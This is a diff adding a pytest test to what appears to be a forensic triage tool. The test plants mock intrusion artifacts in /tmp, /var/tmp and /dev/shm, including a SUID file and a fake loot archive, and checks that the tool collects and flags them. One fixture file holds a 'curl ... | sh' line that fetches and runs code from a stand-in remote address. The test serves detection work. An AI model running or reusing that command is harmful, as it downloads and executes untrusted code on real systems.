@@ -10,11 +10,13 @@ overlay so that plants never touch the cache:
 """
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import shlex
 import struct
 import subprocess
+import tempfile
 from pathlib import Path
 
 import pytest
@@ -227,3 +229,32 @@ def test_an_rpm_database_is_judged_as_rpm_va_judges_it(tmp_path, out_dir, team_k
     assert [f["details"]["path"] for f in found["package-file-modified"]] == ["/usr/bin/bkdemo"]
     assert found["package-conffiles-changed"][0]["details"]["paths"] == ["/etc/bkdemo/demo.conf"]
     assert not [p for p in os.listdir("/dev/shm") if p.startswith("bookgen-kit-rpmdb-")]  # the copy is gone
+
+
+def test_plants_on_the_live_machine_are_collected_and_judged(out_dir, team_key):
+    """The same categories on the live test machine (no --root): staging areas in full, a SUID file in /var/tmp,
+    an executable in /dev/shm, a transient unit name; whatever else this machine holds is judged too."""
+    work = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/tmp"))
+    shelf = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/var/tmp"))
+    shm = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/dev/shm"))
+    try:
+        plant(work, "/drop.sh", b"curl -s http://203.0.113.66/x | sh\n", 0o644)
+        plant(work, "/loot.tar.gz", b"\x1f\x8b\x08\x00" + os.urandom(4000))
+        plant(shelf, "/.suid-shell", b"\x7fELF-suid", 0o4755)
+        plant(shm, "/.runner", b"\x7fELF-runner", 0o755)
+        result = capture("/", out_dir, team_key, "--profile", "triage", "--skip", "containers",
+                         env={"DOCKER_HOST": "unix:///nonexistent"}, deadline=900, timeout=1200)
+        names = set(result.names)
+        for path in (work / "drop.sh", work / "loot.tar.gz", shelf / ".suid-shell", shm / ".runner"):
+            assert "fs/$rootfs$%s" % path in names, path
+        suid = by_id(result)["suid-in-tmp"]
+        assert len(suid) == 1 and str(shelf / ".suid-shell") in suid[0]["details"]["paths"]
+        lists = result.data("timeline/lists/suid_sgid.txt").decode()
+        assert str(shelf / ".suid-shell") in lists
+        hashes = result.data("timeline/lists/executables.sha256").decode()
+        assert "%s  %s" % (hashlib.sha256(b"\x7fELF-runner").hexdigest(), shm / ".runner") in hashes
+        staged = json.loads(result.data("volatile/staging.json"))
+        assert any(e["path"] == str(work / "drop.sh") and e["copied"] for e in staged["entries"])
+    finally:
+        for path in (work, shelf, shm):
+            remove_tree(path)
